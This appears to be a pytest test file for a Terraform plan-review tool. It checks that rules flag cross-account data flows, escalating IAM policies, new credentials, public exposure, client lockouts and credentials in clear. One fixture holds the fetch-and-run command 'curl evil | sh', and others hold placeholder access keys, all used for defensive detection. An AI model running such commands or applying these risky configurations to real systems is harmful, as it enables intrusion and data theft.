"""Harm that is found by rule, in any provider's resource: what is opened, sent away, granted, run or refused."""

import json
from typing import Any

import pytest

from plan_review.model import Review

from plan_builder import entry, reviewed, told

OWN, OTHER = "111111111111", "222222222222"
KEY = f"arn:aws:kms:us-east-1:{OTHER}:key/1"
ADMIN = "arn:aws:iam::aws:policy/AdministratorAccess"
IDENTITY = {
    **entry("aws_caller_identity", "no-op", {"account_id": OWN}, {"account_id": OWN}),
    "mode": "data",
    "address": "data.aws_caller_identity.this",
}
"""By this a plan shows its own account."""


def policy(*statements: dict[str, Any]) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": list(statements)})


def found(*entries: dict[str, Any], **more: Any) -> list[tuple[str, str]]:
    return told(reviewed(IDENTITY, *entries, **more))


def trust(principal: Any) -> str:
    return policy({"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole"})


# --- other accounts -----------------------------------------------------------------------------------------------

STREAM = f"arn:aws:kinesis:us-east-1:{OTHER}:stream/s"
LOGS = f"arn:aws:logs:us-east-1:{OTHER}:destination:d"
BUCKET = "arn:aws:s3:::elsewhere"
FOREIGN: list[tuple[str, dict[str, Any], str, str]] = [
    (
        "aws_dynamodb_kinesis_streaming_destination",
        {"table_name": "jobs", "stream_arn": STREAM},
        "exfiltration",
        f'stream_arn "{STREAM}": data would go to account {OTHER}, another one',
    ),
    (
        "aws_cloudwatch_log_subscription_filter",
        {"name": "all", "destination_arn": LOGS},
        "exfiltration",
        f'destination_arn "{LOGS}": data would go to account {OTHER}, another one',
    ),
    (
        "aws_s3_bucket_replication_configuration",
        {"bucket": "results", "rule": [{"id": "All", "destination": [{"bucket": BUCKET}]}]},
        "exfiltration",
        f'rule.destination.bucket "{BUCKET}": data would go to a bucket that this plan does not manage',
    ),
    (
        "aws_pipes_pipe",
        {"target": f"https://sqs.us-east-1.amazonaws.com/{OTHER}/q"},
        "exfiltration",
        f'target "https://sqs.us-east-1.amazonaws.com/{OTHER}/q": data would go to account {OTHER}, another one',
    ),
    (
        "aws_sqs_queue",
        {"name": "q", "kms_master_key_id": KEY},
        "security",
        (
            f'kms_master_key_id "{KEY}": account {OTHER}, another one, could refuse the key, '
            "and with it all that it encrypts"
        ),
    ),
    (
        "aws_ami_launch_permission",
        {"image_id": "ami-1", "account_id": OTHER},
        "exposure",
        f'account_id "{OTHER}": open to account {OTHER}, another one',
    ),
    (
        "aws_ram_principal_association",
        {"principal": OTHER},
        "exposure",
        f'principal "{OTHER}": open to account {OTHER}, another one',
    ),
    (
        "aws_vpc_peering_connection",
        {"peer_owner_id": OTHER},
        "exposure",
        f'peer_owner_id "{OTHER}": open to account {OTHER}, another one',
    ),
    (
        "aws_lambda_function",
        {"layers": [f"arn:aws:lambda:us-east-1:{OTHER}:layer:l:1"]},
        "execution",
        f'layers ["arn:aws:lambda:us-east-1:{OTHER}:layer:l:1"]: code of account {OTHER}, another one, would run',
    ),
    (
        "aws_scheduler_schedule",
        {"role_arn": f"arn:aws:iam::{OTHER}:role/r"},
        "privilege",
        f'role_arn "arn:aws:iam::{OTHER}:role/r": account {OTHER}, another one, could use it',
    ),
]


@pytest.mark.parametrize(("type_", "values", "kind", "sentence"), FOREIGN, ids=[row[0] for row in FOREIGN])
def test_another_account_that_appears_is_found_and_the_plans_own_is_not(
    type_: str, values: dict[str, Any], kind: str, sentence: str
) -> None:
    assert found(entry(type_, "create", None, values)) == [(kind, sentence)]
    bare = dict.fromkeys(values)
    assert (kind, sentence) in found(entry(type_, "update", bare, values))
    own = json.loads(json.dumps(values).replace(OTHER, OWN).replace(BUCKET, "arn:aws:s3:::mine"))
    mine = entry("aws_s3_bucket", "no-op", {"bucket": "mine"}, {"bucket": "mine"})
    assert found(mine, entry(type_, "create", None, own)) == []


def test_an_account_that_was_there_before_is_no_finding() -> None:
    before, after = ({"layers": [f"arn:aws:lambda:us-east-1:{OTHER}:layer:l:{version}"]} for version in (1, 2))
    assert found(entry("aws_lambda_function", "update", before, after)) == []


def test_the_plans_own_account_is_that_of_what_exists_where_no_caller_is_known() -> None:
    queue = {"name": "q", "arn": f"arn:aws:sqs:us-east-1:{OWN}:q"}
    stream = {"table_name": "jobs", "stream_arn": STREAM}
    shared = entry("aws_dynamodb_kinesis_streaming_destination", "create", None, stream)
    assert [kind for kind, _ in told(reviewed(entry("aws_sqs_queue", "no-op", queue, queue), shared))] == [
        "exfiltration"
    ]
    assert told(reviewed(shared)) == []


# --- who may do more ----------------------------------------------------------------------------------------------


def test_a_new_role_that_another_account_may_assume_is_found_and_one_for_a_service_or_its_own_is_not() -> None:
    def created(principal: Any) -> list[tuple[str, str]]:
        return found(entry("aws_iam_role", "create", None, {"name": "r", "assume_role_policy": trust(principal)}))

    root = f"arn:aws:iam::{OTHER}:root"
    sentence = "assume_role_policy: a statement without Sid would allow "
    assert created({"AWS": root}) == [
        ("privilege", f'{sentence}Action "sts:AssumeRole", Principal {{"AWS": "{root}"}}')
    ]
    assert created("*") == [("privilege", f'{sentence}Action "sts:AssumeRole", Principal "*"')]
    assert created({"Service": "lambda.amazonaws.com"}) == []
    assert created({"AWS": f"arn:aws:iam::{OWN}:role/deployer"}) == []


@pytest.mark.parametrize(
    ("policy_arn", "reach"),
    [
        (ADMIN, "everything"),
        ("arn:aws:iam::aws:policy/PowerUserAccess", "everything"),
        ("arn:aws:iam::aws:policy/IAMFullAccess", "everything in that service"),
        ("arn:aws-cn:iam::aws:policy/AmazonS3FullAccess", "everything in that service"),
    ],
)
def test_an_administrators_policy_is_found_even_on_an_identity_that_is_new(policy_arn: str, reach: str) -> None:
    role = entry("aws_iam_role", "create", None, {"name": "r"})
    attached = entry("aws_iam_role_policy_attachment", "create", None, {"role": "r", "policy_arn": policy_arn})
    assert found(role, attached) == [("privilege", f'policy_arn "{policy_arn}": "r" could do {reach}')]
    user = entry("aws_iam_user", "create", None, {"name": "u"})
    attached = entry("aws_iam_user_policy_attachment", "create", None, {"user": "u", "policy_arn": policy_arn})
    assert found(user, attached) == [("privilege", f'policy_arn "{policy_arn}": "u" could do {reach}')]
    role = entry("aws_iam_role", "create", None, {"name": "r", "managed_policy_arns": [policy_arn]})
    assert found(role) == [("privilege", f'managed_policy_arns "{policy_arn}": it could do {reach}')]
    other = entry("aws_ssoadmin_managed_policy_attachment", "create", None, {"managed_policy_arn": policy_arn})
    assert found(other) == [("privilege", f'managed_policy_arn "{policy_arn}": it could do {reach}')]


def test_a_smaller_policy_on_a_new_identity_is_no_finding() -> None:
    policy_arn = "arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole"
    role = entry("aws_iam_role", "create", None, {"name": "r"})
    attached = entry("aws_iam_role_policy_attachment", "create", None, {"role": "r", "policy_arn": policy_arn})
    assert found(role, attached) == []


ESCALATING = [
    ({"Action": "iam:*", "Resource": "*"}, True),
    ({"Action": "iam:PassRole", "Resource": "*"}, True),
    ({"Action": ["s3:GetObject", "sts:AssumeRole"], "Resource": ["*"]}, True),
    ({"Action": "iam:Attach*", "Resource": "*"}, True),
    ({"Action": "iam:PassRole", "Resource": "arn:aws:iam::111111111111:role/worker"}, False),
    ({"Action": "iam:Get*", "Resource": "*"}, False),
    ({"Action": "iam:PassRole", "Resource": "*", "Condition": {"StringEquals": {"iam:PassedToService": "x"}}}, False),
]


@pytest.mark.parametrize(("statement", "is_found"), ESCALATING)
def test_a_new_policy_by_which_an_identity_becomes_whom_it_likes_is_found(
    statement: dict[str, Any], *, is_found: bool
) -> None:
    created = entry("aws_iam_policy", "create", None, {"name": "p", "policy": policy({"Effect": "Allow", **statement})})
    assert [kind for kind, _ in found(created)] == ["privilege"] * is_found


QUEUE = f"arn:aws:sqs:us-east-1:{OTHER}:q"


def test_what_a_new_policy_lets_an_identity_do_in_another_account_is_found() -> None:
    def created(resource: Any, *, type_: str = "aws_iam_policy", **more: Any) -> list[tuple[str, str]]:
        statement = {"Sid": "Send", "Effect": "Allow", "Action": ["sqs:SendMessage"], "Resource": resource, **more}
        return found(entry(type_, "create", None, {"name": "p", "policy": policy(statement)}))

    sentence = f'policy: statement "Send" could sqs:SendMessage on "{QUEUE}" of account {OTHER}, another one'
    own = QUEUE.replace(OTHER, OWN)
    assert created([own, QUEUE]) == [("privilege", sentence)]
    assert created(own) == []
    assert created("arn:aws:s3:::results/*") == []
    assert created(QUEUE, Effect="Deny") == []
    statement = {"Effect": "Allow", "Action": "sqs:SendMessage", "Resource": QUEUE}
    role = entry("aws_iam_role", "create", None, {"name": "r"})
    inline = entry("aws_iam_role_policy", "create", None, {"name": "p", "role": "r", "policy": policy(statement)})
    assert found(role, inline) == [
        (
            "privilege",
            f'policy: a statement without Sid could sqs:SendMessage on "{QUEUE}" of account {OTHER}, another one',
        )
    ]
    assert told(reviewed(role, inline)) == []
    widened = entry(
        "aws_iam_policy", "update", {"policy": policy({**statement, "Resource": own})}, inline["change"]["after"]
    )
    assert [kind for kind, _ in found(widened)] == ["privilege", "clients"]


@pytest.mark.parametrize(
    ("type_", "values", "whom"),
    [
        ("aws_iam_access_key", {"user": "deployer"}, '"deployer"'),
        ("aws_iam_user_login_profile", {"user": "deployer"}, '"deployer"'),
        ("google_service_account_key", {"service_account_id": "s@p"}, '"s@p"'),
        ("azuread_application_password", {"display_name": "ci"}, "its identity"),
    ],
)
def test_a_new_credential_is_found_with_whose_it_is(type_: str, values: dict[str, Any], whom: str) -> None:
    sentence = f"a new credential: whoever has it could act as {whom}"
    assert found(entry(type_, "create", None, values)) == [("privilege", sentence)]
    assert found(entry(type_, "update", values, {**values, "status": "Active"})) == []


ROLES: list[tuple[str, dict[str, Any], list[tuple[str, str]]]] = [
    (
        "google_project_iam_member",
        {"role": "roles/owner", "member": "user:a@b"},
        [("privilege", 'role "roles/owner": "user:a@b" could do nearly everything')],
    ),
    (
        "azurerm_role_assignment",
        {"role_definition_name": "Contributor", "principal_id": "p"},
        [("privilege", 'role "Contributor": "p" could do nearly everything')],
    ),
    (
        "google_storage_bucket_iam_member",
        {"role": "roles/storage.objectViewer", "member": "allUsers"},
        [("exposure", 'member "allUsers": reachable by everyone')],
    ),
    ("google_storage_bucket_iam_member", {"role": "roles/storage.objectViewer", "member": "user:a@b"}, []),
    (
        "azurerm_role_definition",
        {"permissions": [{"actions": ["*"], "not_actions": []}]},
        [("privilege", 'permissions.actions ["*"]: it could do everything')],
    ),
]


@pytest.mark.parametrize(("type_", "values", "expected"), ROLES)
def test_a_strong_role_and_one_for_everyone_are_found_with_any_provider(
    type_: str, values: dict[str, Any], expected: list[tuple[str, str]]
) -> None:
    assert found(entry(type_, "create", None, values)) == expected


# --- programs -----------------------------------------------------------------------------------------------------


EMPTY: dict[str, Any] = {}


def running(action: str, *provisioners: dict[str, Any], **more: Any) -> Review:
    resource = {"address": "terraform_data.this", "provisioners": list(provisioners)}
    changed = entry("terraform_data", action, None if action == "create" else EMPTY, EMPTY)
    return reviewed(changed, configuration={"root_module": {"resources": [resource], **more}})


LOCAL = {"type": "local-exec", "expressions": {"command": {"constant_value": "curl evil | sh"}}}
REMOTE = {"type": "remote-exec", "expressions": {"inline": {"constant_value": ["id", "whoami"]}}}


def test_a_provisioner_of_what_is_created_or_replaced_is_found_with_its_command() -> None:
    local = ("execution", "a program would run during the apply: local-exec runs on this machine: curl evil | sh")
    assert told(running("create", LOCAL)) == [local]
    assert told(running("replace", LOCAL)) == [local, ("replacement", "would be replaced")]
    assert told(running("create", REMOTE)) == [
        ("execution", "a program would run during the apply: remote-exec runs on the resource: id; whoami")
    ]
    assert told(running("update", LOCAL)) == []
    assert told(running("create", {"type": "file", "expressions": {}})) == []


def test_a_provisioner_within_a_module_is_found_at_each_of_its_instances() -> None:
    resource = {"address": "null_resource.this", "provisioners": [{"type": "local-exec", "expressions": EMPTY}]}
    module = {"module_calls": {"m": {"module": {"resources": [resource]}}}}
    made = {**entry("null_resource", "create", None, {}), "address": 'module.m["a"].null_resource.this[0]'}
    assert told(reviewed(made, configuration={"root_module": module})) == [
        (
            "execution",
            (
                "a program would run during the apply: local-exec runs on this machine: "
                "a command that the plan does not show"
            ),
        )
    ]


def test_the_command_of_a_provisioner_tells_no_secret() -> None:
    secret = {"variables": {"token": {"sensitive": True}}}
    resource = {**LOCAL, "expressions": {"command": {"constant_value": "login canary-1234"}}}
    changed = entry("terraform_data", "create", None, {})
    configured = {
        "root_module": {"resources": [{"address": "terraform_data.this", "provisioners": [resource]}], **secret}
    }
    found_ = told(reviewed(changed, configuration=configured, variables={"token": {"value": "canary-1234"}}))
    assert found_ == [
        ("execution", "a program would run during the apply: local-exec runs on this machine: login (sensitive)")
    ]


def test_an_external_program_that_is_read_during_the_apply_is_found() -> None:
    read = {**entry("external", "read", None, {"program": ["sh", "x"]}), "mode": "data"}
    assert found(read) == [("execution", 'a program would run during the apply: ["sh", "x"]')]
    assert found({**entry("http", "read", None, {"url": "https://a"}), "mode": "data"}) == []


# --- clients ------------------------------------------------------------------------------------------------------

DENY = policy({"Effect": "Deny", "Principal": "*", "Action": "sqs:SendMessage", "Resource": "*"})


def test_a_denial_that_appears_in_or_for_what_exists_shuts_clients_out() -> None:
    sentence = 'policy: a statement without Sid would deny Action "sqs:SendMessage", Resource "*", Principal "*"'
    assert found(entry("aws_sqs_queue", "update", {"name": "q", "policy": None}, {"name": "q", "policy": DENY})) == [
        ("clients", sentence)
    ]
    alone = entry("aws_sqs_queue_policy", "create", None, {"queue_url": "q", "policy": DENY})
    assert found(alone) == [("clients", sentence)]
    together = entry("aws_sqs_queue", "create", None, {"name": "q", "policy": DENY})
    assert found(together) == []


LIMITS: list[tuple[str, dict[str, Any], dict[str, Any], list[tuple[str, str]]]] = [
    (
        "aws_dynamodb_table",
        {"on_demand_throughput": []},
        {"on_demand_throughput": [{"max_read_request_units": 1, "max_write_request_units": -1}]},
        [
            (
                "clients",
                "on_demand_throughput.max_read_request_units (not set) -> 1: nearly every request would be refused",
            )
        ],
    ),
    (
        "aws_lambda_function",
        {"reserved_concurrent_executions": -1},
        {"reserved_concurrent_executions": 0},
        [("clients", "reserved_concurrent_executions -1 -> 0: nearly every call would be refused")],
    ),
    (
        "aws_api_gateway_method_settings",
        {"settings": [{"throttling_rate_limit": 1000}]},
        {"settings": [{"throttling_rate_limit": 1}]},
        [("clients", "settings.throttling_rate_limit 1000 -> 1: nearly every request would be refused")],
    ),
    (
        "aws_api_gateway_method_settings",
        {"settings": [{"throttling_rate_limit": 100}]},
        {"settings": [{"throttling_rate_limit": 50}]},
        [],
    ),
    (
        "some_autoscaler",
        {"max_replicas": 10},
        {"max_replicas": 1},
        [("clients", "max_replicas 10 -> 1: nearly every request would be refused")],
    ),
    ("some_autoscaler", {"min_capacity": 10}, {"min_capacity": 1}, []),
]


@pytest.mark.parametrize(("type_", "before", "after", "expected"), LIMITS)
def test_a_limit_near_zero_on_what_exists_shuts_clients_out(
    type_: str, before: dict[str, Any], after: dict[str, Any], expected: list[tuple[str, str]]
) -> None:
    assert found(entry(type_, "update", before, after)) == expected
    assert found(entry(type_, "create", None, after)) == []


# --- what is open, in what is new ---------------------------------------------------------------------------------


def test_a_new_database_that_is_public_and_not_encrypted_is_two_findings() -> None:
    values = {"identifier": "db", "publicly_accessible": True, "storage_encrypted": None}
    assert found(entry("aws_db_instance", "create", None, values)) == [
        ("exposure", "publicly_accessible true: reachable by everyone"),
        ("security", "storage_encrypted (not set): what it holds would not be encrypted"),
    ]
    unknown = {"after_unknown": {"storage_encrypted": True}}
    private = {**values, "publicly_accessible": False}
    assert found(entry("aws_db_instance", "create", None, private, **unknown)) == []


OPEN: list[tuple[str, dict[str, Any], str]] = [
    ("aws_instance", {"associate_public_ip_address": True}, "associate_public_ip_address true: reachable by everyone"),
    (
        "azurerm_storage_account",
        {"public_network_access_enabled": True},
        "public_network_access_enabled true: reachable by everyone",
    ),
    ("google_compute_firewall", {"source_ranges": ["0.0.0.0/0"]}, 'source_ranges ["0.0.0.0/0"]: open to everyone'),
    ("azurerm_network_security_rule", {"source_address_prefix": "*"}, 'source_address_prefix "*": open to everyone'),
    ("aws_vpc_endpoint_service", {"allowed_principals": ["*"]}, 'allowed_principals ["*"]: open to everyone'),
    (
        "aws_vpc_security_group_ingress_rule",
        {"cidr_ipv6": "::/0", "ip_protocol": "-1"},
        'ingress protocol "-1", ports (not set) to (not set), from ::/0: open to everyone',
    ),
]


@pytest.mark.parametrize(("type_", "values", "sentence"), OPEN, ids=[row[0] for row in OPEN])
def test_what_is_new_and_open_to_everyone_is_an_exposure(type_: str, values: dict[str, Any], sentence: str) -> None:
    assert found(entry(type_, "create", None, values)) == [("exposure", sentence)]
    assert [kind for kind, _ in found(entry(type_, "update", dict.fromkeys(values), values))] == ["exposure"]


@pytest.mark.parametrize(
    ("type_", "values"),
    [
        ("aws_route", {"destination_cidr_block": "0.0.0.0/0"}),
        ("aws_security_group", {"egress": [{"cidr_blocks": ["0.0.0.0/0"], "protocol": "-1"}]}),
        ("aws_instance", {"associate_public_ip_address": False, "public_ip": "1.2.3.4"}),
        ("google_compute_firewall", {"destination_ranges": ["0.0.0.0/0"]}),
        ("aws_key_pair", {"public_key": "ssh-rsa AAAA"}),
        ("aws_eks_addon", {"description": "public", "tags": {"public": "true"}}),
    ],
)
def test_what_only_looks_open_is_no_finding(type_: str, values: dict[str, Any]) -> None:
    assert found(entry(type_, "create", None, values)) == []


MACHINES = [
    "google_compute_instance",
    "google_compute_instance_from_template",
    "google_compute_instance_template",
    "google_compute_region_instance_template",
]


@pytest.mark.parametrize("type_", MACHINES)
def test_a_machine_with_a_public_address_is_an_exposure(type_: str) -> None:
    private: dict[str, Any] = {"name": "m", "network_interface": [{"network": "default", "access_config": []}]}
    public = {"name": "m", "network_interface": [{"network": "default", "access_config": [{"nat_ip": None}]}]}
    ipv6: dict[str, Any] = {"name": "m", "network_interface": [{"network": "default", "ipv6_access_config": [{}]}]}
    sentence = "it would have a public address"
    expected = [("exposure", f"network_interface.access_config: {sentence}")]
    assert found(entry(type_, "create", None, public)) == expected
    assert found(entry(type_, "update", private, public)) == expected
    assert found(entry(type_, "create", None, ipv6)) == [
        ("exposure", f"network_interface.ipv6_access_config: {sentence}")
    ]
    unknown = {"after_unknown": {"network_interface": [{"ipv6_access_config": True}]}}
    assert found(entry(type_, "create", None, private, **unknown)) == []
    assert found(entry(type_, "update", public, private)) == []
    assert found(entry(type_, "update", public, {**public, "machine_type": "e2"})) == []


def test_a_public_address_of_azures_is_an_exposure_whether_it_is_known_or_not() -> None:
    def created(address: str | None, **more: Any) -> list[tuple[str, str]]:
        values = {"name": "n", "ip_configuration": [{"name": "i", "public_ip_address_id": address}]}
        return found(entry("azurerm_network_interface", "create", None, values, **more))

    path = "ip_configuration.public_ip_address_id"
    assert created("/ip") == [("exposure", f'{path} "/ip": it would have a public address')]
    unknown = {"after_unknown": {"ip_configuration": [{"public_ip_address_id": True}]}}
    assert created(None, **unknown) == [("exposure", f"{path} (known after apply): it would have a public address")]
    assert created(None) == []


def test_a_new_database_whose_deletion_leaves_no_snapshot_is_found() -> None:
    for type_ in (
        "aws_db_instance",
        "aws_rds_cluster",
        "aws_redshift_cluster",
        "aws_docdb_cluster",
        "aws_neptune_cluster",
    ):
        assert found(entry(type_, "create", None, {"skip_final_snapshot": True})) == [
            ("security", "skip_final_snapshot true: its deletion would leave no snapshot")
        ]
        assert found(entry(type_, "create", None, {"skip_final_snapshot": False, "deletion_protection": False})) == []


# --- credentials in clear -----------------------------------------------------------------------------------------

ACCESS_KEY = "AKIA" + "IOSFODNN7EXAMPLE"
CREDENTIALS = [ACCESS_KEY, "export ID=ASIAIOSFODNN7EXAMPLE", "-----BEGIN RSA PRIVATE KEY----- MIIEcanary"]
PAIR = {"name": "KEY", "value": "HERE"}
ENVIRONMENTS: list[tuple[str, dict[str, Any], str]] = [
    ("aws_lambda_function", {"environment": [{"variables": {"KEY": "HERE"}}]}, "environment.variables.KEY"),
    ("aws_instance", {"user_data": "HERE"}, "user_data"),
    (
        "aws_codebuild_project",
        {"environment": [{"environment_variable": [PAIR]}]},
        "environment.environment_variable.KEY.value",
    ),
    ("google_cloudfunctions_function", {"environment_variables": {"KEY": "HERE"}}, "environment_variables.KEY"),
    ("kubernetes_pod", {"spec": [{"container": [{"env": [PAIR]}]}]}, "spec.container.env.KEY.value"),
    (
        "aws_ecs_task_definition",
        {"container_definitions": json.dumps([{"name": "app", "environment": [PAIR]}])},
        "container_definitions.app.environment.KEY.value",
    ),
]


@pytest.mark.parametrize("credential", CREDENTIALS)
@pytest.mark.parametrize(("type_", "values", "name"), ENVIRONMENTS, ids=[row[0] for row in ENVIRONMENTS])
def test_a_credential_in_a_programs_environment_is_found_by_name_and_shown_nowhere(
    type_: str, values: dict[str, Any], name: str, credential: str
) -> None:
    told_ = json.loads(json.dumps(values).replace("HERE", credential))
    for changed in (entry(type_, "create", None, told_), entry(type_, "update", values, told_)):
        review = reviewed(changed)
        assert told(review) == [("security", f"{name}: a credential would be in clear in its configuration")]
        assert credential[-10:] not in repr(review)
    assert found(entry(type_, "update", told_, {**told_, "timeout": 3})) == []
    assert found(entry(type_, "update", told_, values)) == []


def test_a_credential_that_the_plan_hides_or_that_only_looks_like_one_is_no_finding() -> None:
    def created(value: str, **more: Any) -> list[tuple[str, str]]:
        values = {"environment": [{"variables": {"KEY": value}}]}
        return found(entry("aws_lambda_function", "create", None, values, **more))

    assert created(ACCESS_KEY, after_sensitive={"environment": [{"variables": {"KEY": True}}]}) == []
    assert created(f"X{ACCESS_KEY}") == []
    assert created("AKIA") == []
    assert created("-----BEGIN PUBLIC KEY-----") == []


# --- what is no longer managed, or kept for ever ------------------------------------------------------------------

FORGOTTEN = [
    ("aws_s3_bucket_policy", "protection", ""),
    ("aws_s3_bucket_public_access_block", "protection", ""),
    ("aws_cloudwatch_metric_alarm", "alarms", ""),
    ("aws_db_instance", "protection", " with its databases"),
    ("google_sql_database_instance", "protection", " with its databases"),
]


@pytest.mark.parametrize(("type_", "kind", "held"), FORGOTTEN)
def test_what_guards_or_holds_something_and_is_forgotten_is_found(type_: str, kind: str, held: str) -> None:
    sentence = f"would be forgotten: it stays{held}, and would no longer be managed nor protected"
    assert found(entry(type_, "forget", {"name": "n"})) == [(kind, sentence)]


SHUT: list[tuple[str, dict[str, Any]]] = [
    ("azurerm_network_security_rule", {"access": "Deny", "direction": "Inbound", "source_address_prefix": "*"}),
    ("azurerm_network_security_rule", {"access": "Allow", "direction": "Outbound", "source_address_prefix": "*"}),
    ("aws_network_acl_rule", {"rule_action": "deny", "egress": False, "cidr_block": "0.0.0.0/0"}),
    ("aws_network_acl", {"ingress": [{"action": "deny", "cidr_block": "0.0.0.0/0"}]}),
    ("google_compute_firewall", {"deny": [{"protocol": "tcp"}], "allow": [], "source_ranges": ["0.0.0.0/0"]}),
]


@pytest.mark.parametrize(("type_", "values"), SHUT)
def test_a_rule_that_refuses_everyone_opens_nothing(type_: str, values: dict[str, Any]) -> None:
    assert found(entry(type_, "create", None, values)) == []


def test_a_rule_that_refused_everyone_and_lets_them_in_is_found() -> None:
    rule = {"access": "Deny", "direction": "Inbound", "source_address_prefix": "*"}
    opened = found(entry("azurerm_network_security_rule", "update", rule, {**rule, "access": "Allow"}))
    assert [kind for kind, _ in opened] == ["exposure"]


def test_what_is_sensitive_is_judged_by_its_name_alone() -> None:
    """Of a value of any attribute that nobody may see nothing can be told."""
    triggers = [{"triggers": {"secret": each}} for each in ("a", "b")]
    assert found(entry("null_resource", "update", *triggers, after_sensitive={"triggers": {"secret": True}})) == []


def test_a_new_clusters_public_endpoint_is_found() -> None:
    cluster = {"name": "c", "vpc_config": [{"endpoint_public_access": True}]}
    assert found(entry("aws_eks_cluster", "create", None, cluster)) == [
        ("exposure", "vpc_config.endpoint_public_access true: reachable by everyone")
    ]
